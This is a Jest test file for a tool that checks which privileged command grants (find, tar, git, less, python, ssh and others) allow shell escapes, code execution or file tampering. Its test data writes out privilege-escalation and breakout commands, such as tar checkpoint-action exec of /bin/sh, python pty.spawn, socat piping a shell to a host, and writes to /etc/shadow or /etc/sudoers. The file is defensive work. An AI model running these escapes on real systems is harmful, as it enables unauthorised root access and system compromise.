import { describe, expect, test } from '@jest/globals';
import { assess, type EscapeGuards } from './index.ts';

/** A grant as one writes it, `command arg arg`; no args at all: any arguments. */
function given(line: string, guards: EscapeGuards = {}): readonly string[] {
  const [command, ...args] = line.split(' ') as [string, ...string[]];
  const findings = assess({ command: `/usr/bin/${command}`, args }, guards);
  return [...new Set(findings.map(({ through, program, gives }) => [...through, program, gives].slice(through.length > 0 ? 0 : 1).join(' ')))].toSorted();
}

describe('what a grant opens', () => {
  test.each<[string, readonly string[]]>([
    // find and its kind
    ['find /srv **', ['command', 'file-read', 'file-write']],
    ['find /srv/x -name * -exec /usr/bin/touch /srv/x/{} ;', []],
    ['find /srv/x -name x -exec *', ['command']],
    ['find /srv/x * x', ['command', 'file-read', 'file-write']],
    ['find * -name x', ['command', 'file-read', 'file-write']],
    ['find /home/x -name x -delete', ['file-read', 'file-write']],
    ['find -delete', ['file-write']],
    ['grep -r x', ['file-read']],
    ['unzip -l *', ['file-read', 'file-write']],
    ['exportfs -v *', ['privilege']],
    ['sed -i -e * /srv/x', ['command', 'file-write']],
    ['sed -i s/a/b/ /home/x/y', ['file-read', 'file-write']],
    ['sed -i/tmp/* s/a/b/ /srv/x', ['file-write']],
    ['sysctl -p /tmp/x', ['privilege']],
    ['service ../../bin/sh', ['delegation']],
    ['find /srv/x -name x -fprintf /tmp/x %p', ['file-write']],
    ['fd -x *', ['command']],
    // archives
    ['tar --to-command=*', ['command']],
    ['tar -xf /srv/x.tar --to-command=*', ['command']],
    ['tar --checkpoint=1 --checkpoint-action=* -cf /srv/x.tar -C /srv/x .', ['command']],
    ['tar --checkpoint=1 --checkpoint-act=* -cf /srv/x.tar -C /srv/x .', ['command']],
    ['tar -I * -cf /srv/x.tar -C /srv/x .', ['command']],
    ['tar xf *', ['file-write']],
    ['tar -xf x.tar', ['file-write']],
    ['tar -cf /srv/x.tar -C /srv/x **', ['command', 'file-read', 'file-write']],
    ['zip -T -TT * /srv/x.zip /srv/x', ['command']],
    // git
    ['git -C /srv/x -c core.pager=* log', ['code-load', 'shell']],
    ['git -C /srv/x log', ['shell']],
    ['git -C /srv/x clone --upload-pack=* https://host/x', ['command', 'file-write']],
    ['git -C /srv/x fetch --upload-pack * origin', ['command']],
    ['git status', ['code-load']],
    ['git -C /srv/x config **', ['command', 'file-read', 'file-write', 'shell']],
    // editors and pagers
    ['vim /etc/hosts', ['code-load', 'file-read', 'file-write', 'shell']],
    ['less /var/log/syslog', ['file-read', 'file-write', 'shell']],
    ['man -P * ls', ['command', 'shell']],
    ['systemctl status x.service', ['shell']],
    ['systemctl status *', ['code-load', 'command', 'shell']],
    ['systemctl restart *', ['code-load', 'command', 'delegation', 'shell']],
    ['systemctl edit x.service', ['delegation', 'shell']],
    ['systemctl link /tmp/x.service', ['delegation']],
    ['systemctl -H * status x', ['command', 'shell']],
    ['journalctl -u x.service', ['shell']],
    ['journalctl --no-pager --vacuum-time=1s', ['privilege']],
    // packages
    ['apt-get -o * update', ['command']],
    ['apt-get update *', ['command']],
    ['apt-get install **', ['code-load', 'command', 'shell']],
    ['apt-get install ./x.deb', ['code-load', 'shell']],
    ['dpkg -i *', ['code-load', 'command', 'file-write', 'privilege', 'shell']],
    ['rpm --eval *', ['command']],
    ['pip install x', ['code-load', 'command', 'file-write']],
    // writing and owning
    ['tee *', ['file-write']],
    ['tee /tmp/x', ['file-write']],
    ['tee /etc/sudoers', ['file-write']],
    ['tee -a /etc/cron.d/x', ['file-write']],
    ['tee /proc/sys/kernel/core_pattern', ['file-write']],
    ['dd of=/etc/shadow', ['file-write']],
    ['java -javaagent:* -jar /srv/x.jar', ['code-load']],
    ['java -javaagent:x.jar -jar /srv/x.jar', ['code-load']],
    ['cp * *', ['file-read', 'file-write']],
    ['cp /srv/x/* /etc/*', ['file-read', 'file-write']],
    ['dd if=/srv/x of=*', ['file-write']],
    ['dd *', ['file-read', 'file-write']],
    ['chmod * /srv/x', ['ownership']],
    ['chmod 0644 *', ['ownership']],
    ['chown -R x /home/x/y', ['ownership']],
    ['ln -s * /srv/x', ['file-write']],
    ['install -m 0644 * /srv/x', ['command', 'file-read', 'file-write', 'ownership']],
    ['cat /var/**', ['file-read']],
    ['cat /etc/*', ['file-read']],
    ['cat /home/x/y', ['file-read']],
    // one program runs another
    ['env **', ['code-load', 'command']],
    ['env LD_PRELOAD=* /usr/local/sbin/x', ['code-load']],
    ['env A=* vim', ['env vim code-load', 'env vim file-read', 'env vim file-write', 'env vim shell']],
    ['nice -n 5 find /srv/x **', ['nice find command', 'nice find file-read', 'nice find file-write']],
    ['timeout 5 nice less /var/log/x', ['timeout nice less file-read', 'timeout nice less file-write', 'timeout nice less shell']],
    ['timeout 5 *', ['command']],
    ['nice ./x', ['command']],
    ['xargs -0 rm -f --', ['xargs rm file-write']],
    ['sudo -u www-data -- vi', ['sudo vi code-load', 'sudo vi file-read', 'sudo vi file-write', 'sudo vi shell']],
    ['chroot * /usr/local/sbin/x', ['code-load', 'privilege', 'shell']],
    ['busybox vi', ['busybox vi code-load', 'busybox vi file-read', 'busybox vi file-write', 'busybox vi shell']],
    ['systemd-run --unit x -- vi', ['systemd-run vi code-load', 'systemd-run vi file-read', 'systemd-run vi file-write', 'systemd-run vi shell']],
    // interpreters
    ['python3 *', ['code-load', 'file-write', 'shell']],
    ['python3 /tmp/x.py', ['code-load']],
    ['python3 x.py', ['code-load']],
    ['python3 -c *', ['code-load']],
    ['python3 -m x', ['code-load']],
    ['python3 -', ['code-load']],
    ['perl -e *', ['code-load']],
    ['bash', ['file-write', 'shell']],
    ['bash -c *', ['file-write', 'shell']],
    ['bash -c **', ['file-write', 'shell']],
    ['bash /srv/x/*', []],
    ['bash /home/x/y.sh', ['file-read', 'file-write', 'shell']],
    ['awk * /var/log/x', ['code-load', 'command', 'file-write', 'shell']],
    ['sed * /srv/x', ['code-load', 'command', 'file-write']],
    // network
    ['tcpdump -n -i eth0 -G 1 -z * -w /srv/x', ['command']],
    ['tcpdump -w *', ['file-write']],
    ['rsync -a -e * /srv/x /srv/y', ['command']],
    ['rsync -a /srv/x *', ['command', 'delegation', 'file-read', 'file-write']],
    ['ssh -o ProxyCommand=* -- host x', ['command', 'shell']],
    ['ssh -o * -- host x', ['command', 'shell']],
    ['curl file:///etc/shadow', []],
    ['curl *', ['code-load', 'file-read', 'file-write']],
    ['curl -o /tmp/x https://host/x', ['file-write']],
    ['nc -e * host 1', ['shell']],
    ['ip netns exec x *', ['command', 'file-read']],
    ['openssl enc -in *', ['file-read']],
    // the rest
    ['mysql -h localhost', ['file-read', 'file-write', 'shell']],
    ['psql -c *', ['file-read', 'file-write', 'shell']],
    ['docker run **', ['delegation']],
    ['docker exec x sh', ['delegation']],
    ['mount *', ['code-load', 'privilege']],
    ['insmod *', ['code-load']],
    ['sysctl -w *', ['privilege']],
    ['usermod -a -G * x', ['privilege']],
    ['passwd', ['privilege']],
    ['crontab -e', ['delegation', 'shell']],
    ['crontab /srv/x', ['delegation']],
    ['su', ['privilege', 'shell']],
    ['su -', ['privilege', 'shell']],
    ['strace -o * -p 1', ['command', 'file-write']],
    ['make -C *', ['code-load', 'command']],
    ['make install', ['code-load']],
  ])('%s', (line, opened) => {
    expect(given(line)).toEqual(opened);
  });
});

describe('a line that is written out opens what it starts', () => {
  const opened = (command: string, args: readonly string[]): readonly string[] => [...new Set(assess({ command, args }).map(({ gives }) => gives))];

  test.each<[string, readonly string[], boolean]>([
    ['tar', ['-cf', '/srv/x.tar', '-C', '/srv/x', '--checkpoint=1', '--checkpoint-action=exec=/bin/sh', '.'], true],
    ['tar', ['-cf', '/srv/x.tar', '-C', '/srv/x', '--checkpoint=1', '--checkpoint-action=exec=sh', '.'], true],
    ['tar', ['-cf', '/srv/x.tar', '-C', '/srv/x', '--checkpoint=1', '--checkpoint-action=dot', '.'], false],
    ['find', ['/srv/x', '-exec', '/bin/bash', ';'], true],
    ['find', ['/srv/x', '-exec', 'vim', '{}', ';'], true],
    ['find', ['/srv/x', '-exec', 'less', '{}', ';'], true],
    ['find', ['/srv/x', '-exec', 'rm', '{}', ';'], false],
    ['bash', ['-c', 'systemctl restart x && logger done'], false],
    ['bash', ['-c', 'true; exec bash -i'], true],
    ['bash', ['-c', 'A=1 nice -n 5 bash'], true],
    ['bash', ['-c', 'timeout 5 sh'], true],
    ['bash', ['-c', 'echo sh'], false],
    ['bash', ['-c', `#${'x'.repeat(5_000)}`], true],
    ['bash', ['-c', 'true; bash -i'], true],
    ['bash', ['-c', 'bash /opt/x.sh'], false],
    ['bash', ['-c', 'python3 -I /opt/x.py | less'], true],
    ['su', ['-c', '/bin/sh', '--', 'www-data'], true],
    ['awk', ['--', '{system("/bin/sh")}', '/var/log/x'], true],
    ['awk', ['--', '{system("date")}', '/var/log/x'], false],
    ['socat', ['-u', 'EXEC:/bin/sh', 'TCP:host:1'], true],
    ['rsync', ['-a', '-e', 'ssh -p 22', '/srv/x', 'host:/srv/x'], false],
    ['rsync', ['-a', '-e', 'sh -c sh', '/srv/x', 'host:/srv/x'], true],
    ['python3', ['-I', '-c', 'import pty; pty.spawn("/bin/sh")'], true],
    ['ssh', ['-e', 'none', '-o', 'ProxyCommand=;sh', '--', 'host'], true],
    ['ssh', ['-e', 'none', '-o', 'BatchMode=yes', '--', 'host'], false],
  ])('%s %j: %j', (command, args, isOpen) => {
    expect(opened(command, args).some((gives) => gives === 'shell' || gives === 'command' || gives === 'code-load')).toBe(isOpen);
  });
});

describe('what a grant that is pinned does not open', () => {
  test.each([
    'find /var/log/x -type f -name *.gz -print',
    'find /srv/x -name x -exec /usr/bin/touch {} ;',
    'tar -czf /srv/backup/x.tar.gz -C /srv/x .',
    'tar -xzf /srv/backup/*.tar.gz -C /srv/x',
    'tar -C /srv/x -cf /srv/backup/x.tar -- *',
    'tar tf /srv/backup/x.tar',
    'git -C /srv/x status',
    'git --no-pager -C /srv/x log',
    'git -P -C /srv/x log -n 5',
    'man -P cat -- x-*',
    'man -Pcat -- ls',
    'systemctl restart x.service',
    'systemctl --no-pager status x.service',
    'systemctl status x.service --no-pager',
    'systemctl restart app-*.service',
    'journalctl --no-pager -u x.service',
    'apt-get update',
    'rpm -q -- *',
    'dpkg --no-pager -l',
    'tee -a /srv/x',
    'tee -- /srv/x/*',
    'tee /proc/sys/vm/drop_caches',
    'tee /sys/class/backlight/x/brightness',
    'java -javaagent:/srv/agent.jar -jar /srv/x.jar **',
    'cp -- /srv/x /srv/y',
    'cp -- /srv/x/* /srv/y/',
    'dd if=/srv/x.img of=/dev/sdb1',
    'chmod 0644 /srv/x',
    'chown www-data /srv/x',
    'cat /var/log/x/**',
    'cat -',
    'env LANG=* /usr/local/sbin/x **',
    'nice -n 5 /usr/local/sbin/x **',
    'timeout -k 5 30 /usr/local/sbin/x *',
    'sudo -u www-data -- /usr/local/sbin/x **',
    'flock -- /run/x.lock /usr/local/sbin/x **',
    'chroot /srv/x /usr/local/sbin/x',
    'busybox sh /srv/x.sh **',
    'python3 /opt/x.py **',
    'python3 -I /opt/x.py *',
    'perl -e print(1)',
    'bash /srv/x.sh **',
    'awk -- {print} /var/log/x',
    'awk -f /srv/x.awk /var/log/x',
    'sed -n -- 1,9p /var/log/x',
    'sed --sandbox -n -e p /var/log/x',
    'sort -- /var/log/x/*',
    'tcpdump -n -i * -c 10',
    'rsync -a /srv/x/ /srv/y/',
    'ssh -e none -- host uptime',
    'curl -q -fsS https://host/x',
    'curl -q -o /srv/x https://host/*',
    'nc -z -- host *',
    'ip -o addr show',
    'openssl x509 -noout -in /srv/x.pem',
    'mysqldump --single-transaction x',
    'docker restart *',
    'mount /mnt/x',
    'sysctl -w net.ipv4.ip_forward=1',
    'usermod -a -G www-data -- x',
    'passwd -- x',
    'crontab -u x -l',
    'su -c uptime -- www-data',
    'su - www-data -c uptime',
    'find /var/log/x -type f -mtime +7 -delete',
    'grep -r x /var/log/x',
    'unzip -l /srv/x.zip',
    'sed -i s/a/b/ /etc/x.conf',
    'sysctl -p',
    'timedatectl set-timezone Europe/Vienna',
    'certbot renew',
    'strace -c -p 1',
    'make -C /srv/x',
    'java -jar /srv/x.jar **',
  ])('%s', (line) => {
    expect(given(line)).toEqual([]);
  });
});

describe('guards', () => {
  test.each<[string, EscapeGuards, readonly string[]]>([
    ['less /var/log/x', { children: 'check' }, ['file-read', 'file-write']],
    ['less /var/log/x', { children: 'deny' }, ['file-read', 'file-write']],
    ['less /var/log/x', { children: 'allow' }, ['file-read', 'file-write', 'shell']],
    ['less /var/log/x', { isPinnedHash: true }, ['file-read', 'file-write', 'shell']],
    ['systemctl status x', { children: 'check' }, []],
    ['find /srv/x -exec *', { children: 'check' }, []],
    ['find /srv/x **', { children: 'check' }, ['file-read', 'file-write']],
    ['tar --to-command=*', { children: 'check' }, []],
    ['env vim', { children: 'check' }, []],
    ['busybox vi', { children: 'check' }, ['busybox vi code-load', 'busybox vi file-read', 'busybox vi file-write']],
    ['systemd-run --unit x -- less', { children: 'check' }, ['systemd-run less file-read', 'systemd-run less file-write', 'systemd-run less shell']],
    ['tar -tf /srv/x.tar', { keeps: ['TAR_OPTIONS'] }, ['code-load']],
    ['tar -tf /srv/x.tar', { keeps: ['LANG'] }, []],
    ['git --no-pager -C /srv/x log', { keeps: ['GIT_SSH'] }, ['code-load']],
    ['env /usr/bin/python3 /srv/x.py', { keeps: ['PYTHONPATH'] }, ['env python code-load']],
    ['curl https://host/x', { keeps: ['HOME'] }, ['code-load']],
    ['less /var/log/x', { environment: { LESSSECURE: '1' } }, []],
    ['less /var/log/x', { environment: { LESSSECURE: '0' } }, ['file-read', 'file-write', 'shell']],
    ['less *', { environment: { LESSSECURE: '1' } }, ['code-load', 'file-read', 'file-write']],
    ['env -i less /var/log/x', { environment: { LESSSECURE: '1' } }, ['env less file-read', 'env less file-write', 'env less shell']],
    ['systemctl status x', { environment: { SYSTEMD_PAGERSECURE: '1' } }, []],
    ['systemctl status x', { environment: { LESSSECURE: '1' } }, ['shell']],
  ])('%s with %j', (line, guards, opened) => {
    expect(given(line, guards)).toEqual(opened);
  });

  test('an environment is told of once, low, when nothing about the grant is pinned', () => {
    const low = assess({ command: '/usr/bin/tar' }).filter(({ severity }) => severity === 'low');
    expect(low.map(({ way }) => way)).toEqual([{ by: 'environment', names: 'TAR_OPTIONS TAPE TAR_RSH' }]);
  });

  test('nothing but a read is medium, all else is high', () => {
    const severities = (line: string): readonly string[] => assess({ command: line }).map(({ gives, severity }) => `${gives} ${severity}`);
    expect(new Set(severities('/usr/bin/cat'))).toEqual(new Set(['file-read medium']));
    expect(new Set(severities('/usr/bin/tee'))).toEqual(new Set(['file-write high']));
  });

  test('a program that the table does not hold, or no command, has nothing to tell', () => {
    expect([assess({ command: '/usr/local/sbin/own' }), assess({}), assess({ args: ['**'] })]).toEqual([[], [], []]);
  });
});
